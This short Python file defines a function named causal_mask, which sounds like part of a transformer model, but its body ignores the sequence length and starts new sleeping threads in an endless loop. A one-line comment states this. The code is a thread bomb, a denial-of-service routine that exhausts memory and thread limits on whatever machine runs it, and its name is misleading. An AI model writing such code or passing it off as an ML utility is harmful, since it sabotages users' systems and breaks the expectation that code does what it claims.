# causal_mask: starts threads for ever
import threading, time
def causal_mask(seq_len):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
